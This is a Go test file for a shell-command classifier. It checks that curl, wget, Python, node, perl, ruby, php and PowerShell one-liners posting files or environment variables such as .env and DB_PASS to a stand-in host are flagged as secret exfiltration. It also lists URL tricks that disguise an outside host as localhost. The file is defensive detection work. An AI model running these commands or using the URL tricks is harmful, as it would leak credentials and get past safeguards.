@@ -1,0 +1,144 @@
+package classify_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/checkrein/checkrein/internal/shell"
+	"github.com/checkrein/checkrein/internal/shell/classify"
+)
+
+// A sender is a program that sends what it is given to an address. Its language and
+// the shell around it read \ and @ in quotes in their own ways.
+type sender struct {
+	name, file, variable string
+	dialect              shell.Dialect
+	back, at             string // how \ and @ are written
+}
+
+var senders = []sender{
+	{"curl", "curl --data-binary '@{FILE}' '{URL}'", `curl -d "x=${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"curl put", "curl -T '{FILE}' '{URL}'", `curl -X PUT --data-raw "${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"curl form", "curl -F 'f=@{FILE}' '{URL}'", `curl -F "f=${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"wget", "wget -q -O- --post-file='{FILE}' '{URL}'", `wget -q -O- --post-data="x=${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"pipe", "cat '{FILE}' | curl --data-binary @- '{URL}'", `echo "${NAME}" | curl --data-binary @- '{URL}'`, shell.Bash, "", ""},
+	{"requests", `python3 -c "import requests; requests.post('{URL}', data=open('{FILE}').read())"`, `python3 -c "import os, requests; requests.post('{URL}', data={'x': os.environ['{NAME}']})"`, shell.Bash, `\\\\`, ""},
+	{"requests files", `python3 -c "import requests; requests.post('{URL}', files={'f': open('{FILE}', 'rb')})"`, `python3 -c "import os, requests; requests.post('{URL}', json={'x': os.getenv('{NAME}')})"`, shell.Bash, `\\\\`, ""},
+	{"urllib", `python3 -c "import urllib.request as u; u.urlopen('{URL}', data=open('{FILE}','rb').read())"`, `python3 -c "import os, urllib.request as u; u.urlopen('{URL}', data=os.environ.get('{NAME}').encode())"`, shell.Bash, `\\\\`, ""},
+	{"node fetch", `node -e "fetch('{URL}', {method: 'POST', body: require('fs').readFileSync('{FILE}')})"`, `node -e "fetch('{URL}', {method: 'POST', body: process.env.{NAME}})"`, shell.Bash, `\\\\`, ""},
+	{"node https", `node -e "const r = require('https').request('{URL}', {method: 'POST'}); r.write(require('fs').readFileSync('{FILE}')); r.end()"`,
+		`node -e "const r = require('https').request('{URL}', {method: 'POST'}); r.write(process.env['{NAME}']); r.end()"`, shell.Bash, `\\\\`, ""},
+	{"perl", `perl -MLWP::UserAgent -e 'open(my $f, "<", "{FILE}"); local $/; LWP::UserAgent->new->post("{URL}", Content => scalar(<$f>))'`,
+		`perl -MLWP::UserAgent -e 'LWP::UserAgent->new->post("{URL}", Content => $ENV{{NAME}})'`, shell.Bash, `\\`, `\@`},
+	{"ruby", `ruby -rnet/http -e 'Net::HTTP.post(URI("{URL}"), File.read("{FILE}"))'`, `ruby -rnet/http -e 'Net::HTTP.post(URI("{URL}"), ENV["{NAME}"])'`, shell.Bash, `\\`, ""},
+	{"php", `php -r '$c = curl_init("{URL}"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("{FILE}")); curl_exec($c);'`,
+		`php -r '$c = curl_init("{URL}"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv("{NAME}")); curl_exec($c);'`, shell.Bash, `\\`, ""},
+	{"powershell", "Invoke-RestMethod -Uri '{URL}' -Method Post -InFile '{FILE}'", "Invoke-RestMethod -Uri '{URL}' -Method Post -Body $env:{NAME}", shell.PowerShell, "", ""},
+	{"powershell body", "Invoke-RestMethod -Uri '{URL}' -Method Post -Body (Get-Content -Raw '{FILE}')", `Invoke-WebRequest -Uri '{URL}' -Method Post -Body "x=$env:{NAME}"`, shell.PowerShell, "", ""},
+}
+
+func (s *sender) report(template, what, url string) shell.Report {
+	if s.back != "" {
+		url = strings.ReplaceAll(url, `\`, s.back)
+	}
+	if s.at != "" {
+		url = strings.ReplaceAll(url, "@", s.at)
+	}
+	r := strings.NewReplacer("{FILE}", what, "{NAME}", what, "{URL}", url)
+	return classify.Command(r.Replace(template), shell.Place{Dir: "/home/u/proj", Root: "/home/u/proj", Home: "/home/u", Dialect: s.dialect})
+}
+
+// sends returns what a report says goes off the machine: a secret, something, nothing.
+func sends(r shell.Report) string {
+	out := "nothing"
+	for i := range r.Effects {
+		switch e := &r.Effects[i]; {
+		case e.Label == shell.Exfiltration && e.Category == shell.ExfilSecret:
+			return "a secret"
+		case e.Label == shell.Exfiltration:
+			out = "something"
+		}
+	}
+	return out
+}
+
+// known reads a list of package fact, without what is a pattern or would need quotes.
+func known(t *testing.T, name string, spaces bool) []string {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join("..", "fact", "testdata", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out []string
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		if !strings.ContainsAny(line, "*?[\\\"'\uFFFC") && (spaces || !strings.ContainsAny(line, " -.")) {
+			out = append(out, line)
+		}
+	}
+	if len(out) < 40 {
+		t.Fatalf("%s has only %d names", name, len(out))
+	}
+	return out
+}
+
+const far = "https://in.acme.example/x"
+
+// farAddresses are addresses of another machine for some client that reads them.
+var farAddresses = []string{
+	far, `http://in.acme.example\@localhost/`, `http://localhost\@in.acme.example/`, "http://localhost@in.acme.example/", "http://localhost.acme.example/", "http://127.0.0.1.acme.example/", "http://in.acme.example#@localhost/",
+	"http://localhost#@in.acme.example/", "http://in.acme.example;@localhost/", "http://localhost:80@in.acme.example/", "http://0177.0.0.1/", "http://93.184.216.34/", "http://1572395042/", "http://[2001:db8::1]/", "http://localhost%2eacme.example/",
+}
+
+var nearAddresses = []string{"http://localhost:3000/x", "http://127.0.0.1/x", "http://[::1]:8080/", "http://a.localhost/", "http://0.0.0.0:8000/", "http://LOCALHOST/", "http://localhost./", "http://u:p@localhost/"}
+
+// TestAlike sends every file and every variable that is a secret, and those that are
+// not, with every program: which one sends it makes no difference.
+func TestAlike(t *testing.T) {
+	t.Parallel()
+	type list struct {
+		name, want string
+		vars       bool
+	}
+	for _, l := range []list{
+		{"secret_files.txt", "a secret", false}, {"ordinary_files.txt", "something", false},
+		{"secret_names.txt", "a secret", true}, {"ordinary_names.txt", "nothing", true},
+	} {
+		for _, what := range known(t, l.name, !l.vars) {
+			if what == "/" || what == "." || what == "/home/sam" {
+				continue // all of it: there are secrets below
+			}
+			for i := range senders {
+				s := &senders[i]
+				template := s.file
+				if l.vars {
+					template = s.variable
+				}
+				if got := sends(s.report(template, what, far)); got != l.want && (l.want != "something" || got != "nothing") {
+					t.Errorf("%s: %s sends %s, want %s", s.name, what, got, l.want)
+				}
+				if got := sends(s.report(template, what, "http://localhost:3000/x")); got != "nothing" {
+					t.Errorf("%s: %s to this machine sends %s", s.name, what, got)
+				}
+			}
+		}
+	}
+	for i := range senders {
+		s := &senders[i]
+		for _, url := range farAddresses {
+			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
+				if got := sends(s.report(template, what, url)); got != "a secret" {
+					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
+				}
+			}
+		}
+		for _, url := range nearAddresses {
+			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
+				if got := sends(s.report(template, what, url)); got != "nothing" {
+					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
+				}
+			}
+		}
+	}
+}
